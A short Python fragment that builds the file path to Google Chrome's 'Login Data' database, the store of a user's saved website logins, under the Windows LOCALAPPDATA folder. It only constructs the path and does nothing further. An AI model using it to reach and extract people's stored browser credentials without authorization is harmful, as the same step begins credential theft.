import os

base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
db = os.path.join(base, "Default", "Login Data")
